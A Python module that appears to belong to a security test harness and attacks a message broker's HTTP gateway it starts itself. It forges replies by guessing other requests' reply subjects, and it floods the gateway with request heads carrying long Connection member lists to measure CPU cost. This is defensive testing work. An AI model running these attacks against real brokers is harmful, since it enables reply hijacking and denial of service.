"""Attacks on the HTTP gateway: forged replies, and request heads that are expensive for their size."""

import re
import time
from contextlib import ExitStack

from hostile.client import Address, Client, open_socket, read_answer
from hostile.finding import Finding
from hostile.setup import Broker, Setup
from hostile.witness import watch

_SLOTS, _GENERATIONS, _AHEAD = 60, 4, 40
_FORGED, _GENUINE = b"forged", b"genuine"
_MOST_COST = 1.5
_MOST_MEMBERS = 16
_CONNECTIONS = 16
"""Number of connections that send heads, so that no head waits for the response to the one before."""


def forged_replies(setup: Setup, requests: int = 20) -> list[Finding]:
    """Serve one subject and, from its reply subjects, guess and forge the replies of another service."""
    with (
        setup.broker() as broker,
        Client(broker.tcp) as bank,
        Client(broker.tcp) as attacker,
        ExitStack() as stack,
    ):
        bank.carry_out(b"SUB bank.balance 1\r\n")
        attacker.carry_out(b"SUB weather.now 1\r\n")
        callers = [stack.enter_context(open_socket(broker.http)) for _ in range(requests + 1)]
        callers[0].sendall(_request(broker.http, "weather.now"))
        _, reply = _read_request(attacker)
        attacker.carry_out(_publish(reply, b"fair"))
        read_answer(callers.pop(0))
        for caller in callers:
            caller.sendall(_request(broker.http, "bank.balance"))
        asked = [_read_request(bank)[1] for _ in callers]
        guesses = b"".join(_publish(guess, _FORGED) for guess in _guesses(reply))
        problem = attacker.carry_out(guesses)
        # The service replies after the attacker, since services take time.
        bank.carry_out(b"".join(_publish(subject, _GENUINE) for subject in asked))
        answers = [read_answer(caller)[1] for caller in callers]
    forged = sum(answer != _GENUINE for answer in answers)
    beside = f"{len(guesses) / 1e3:.0f} kB of guesses, of {requests} requests" + (
        f", {problem}" if problem else ""
    )
    return [Finding("replies forged", forged, "", 0, beside=beside)]


def _request(address: Address, subject: str) -> bytes:
    host = f"{address[0]}:{address[1]}"
    return f"POST /v1/request/{subject} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1\r\n\r\n?".encode()


def _read_request(service: Client) -> tuple[bytes, bytes]:
    """Return subject and reply subject of the next request."""
    line = service.read_line()
    words = line.split()
    assert words[0] in (b"MSG", b"HMSG"), line
    missing = int(words[-1]) + 2
    while missing > 0:
        missing -= len(service.read_line())
    return words[1], words[3]


def _publish(subject: bytes, payload: bytes) -> bytes:
    return b"PUB %s %d\r\n%s\r\n" % (subject, len(payload), payload)


def _guesses(seen: bytes) -> list[bytes]:
    """Return guesses of the reply subjects of other requests, made from one reply subject that was seen.

    The hexadecimal numbers of the last token are taken for shard, slot, generation and number; the rest of
    the token is not changed. In a token of another form, the last digits are changed.
    """
    head, _, token = seen.rpartition(b".")
    parts = token.split(b"-")
    if len(parts) >= 4 and all(re.fullmatch(b"[0-9a-f]+", part) for part in parts[:4]):  # noqa: PLR2004
        number = int(parts[3], 16)
        rest = b"".join(b"-" + part for part in parts[4:])
        return [
            b"%s.%s-%x-%x-%x%s" % (head, parts[0], slot, generation, number + ahead, rest)
            for ahead in range(1, _AHEAD + 1)
            for generation in range(_GENERATIONS)
            for slot in range(_SLOTS)
        ]
    return [b"%s%0*x" % (seen[:-3], 3, n) for n in range(1 << 12)]


def connection_members(
    setup: Setup, fields: int = 58, head_bytes: int = 7700, rate: int = 1000, duration_s: float = 5.0
) -> list[Finding]:
    """Send heads of many fields whose `Connection` lists thousands of names."""
    with setup.broker() as broker, watch(setup, broker) as witness:
        head = _head(broker.http, fields, head_bytes, "Connection")
        with witness.during(f"{rate:,} heads/s of {len(head):,} bytes and {fields} fields") as window:
            sent, status, elapsed_s = _send_heads(broker, head, rate, duration_s)
            window.remarks.append(f"{sent / elapsed_s:,.0f} heads/s reached, status {status}")
    # This broker has no other client, so that it uses its processor time for the heads alone.
    with setup.broker() as broker:
        listed, elsewhere, without = (
            _cost_us(broker, _head(broker.http, fields, total, name), duration_s / 2)
            for total, name in ((head_bytes, "Connection"), (head_bytes, "X-Members"), (0, "X-Members"))
        )
    beside = f"{listed:.1f} us against {without:.1f}, {elsewhere:.1f} with the list in another field"
    what = "CPU of such a head, of one without the list"
    return [*witness.findings(), Finding(what, listed / without, "", _MOST_COST, beside=beside)]


def _head(address: Address, fields: int, total: int, name: str) -> bytes:
    """Return a request to publish an empty message: `fields` fields, and a list that fills `total` bytes."""
    lines = [f"POST /v1/publish/hostile HTTP/1.1\r\nHost: {address[0]}:{address[1]}\r\nContent-Length: 0\r\n"]
    lines += [f"X-Field-{n}: 1\r\n" for n in range(fields - 1)]
    head = "".join(lines).encode()
    # The broker accepts so many members and refuses requests with more.
    length = max(total - len(head) - len(name) - 6, 0) // _MOST_MEMBERS
    members = ",".join(f"{n:x}".ljust(max(length - 1, 1), "k") for n in range(_MOST_MEMBERS))
    return head + f"{name}: {members}\r\n\r\n".encode()


def _cost_us(broker: Broker, head: bytes, duration_s: float) -> float:
    """Return the broker's processor time per head, in microseconds, at the highest rate that it accepts."""
    _send_heads(broker, head, 0, duration_s / 10)
    before = broker.cpu_s()
    sent, _, _ = _send_heads(broker, head, 0, duration_s)
    return (broker.cpu_s() - before) / sent * 1e6


def _send_heads(broker: Broker, head: bytes, rate: int, duration_s: float) -> tuple[int, int, float]:
    """Send the same head repeatedly, over many connections.

    Args:
        broker: Broker to send to.
        head: Head of a request without a body.
        rate: Heads per second; 0 = as fast as they are answered.
        duration_s: Time to send, in seconds.

    Returns:
        Number of heads that were sent, status of the last response, and duration in seconds.
    """
    sent = status = 0
    with ExitStack() as stack:
        connections = [stack.enter_context(open_socket(broker.http)) for _ in range(_CONNECTIONS)]
        begun = time.perf_counter()
        while (elapsed_s := time.perf_counter() - begun) < duration_s:
            if rate and sent > elapsed_s * rate:
                time.sleep(sent / rate - elapsed_s)
            for place, connection in enumerate(connections):
                try:
                    connection.sendall(head)
                except OSError:
                    connections[place] = stack.enter_context(open_socket(broker.http))
                    connections[place].sendall(head)
            for connection in connections:
                status, _ = read_answer(connection)
            sent += len(connections)
    return sent, status, elapsed_s
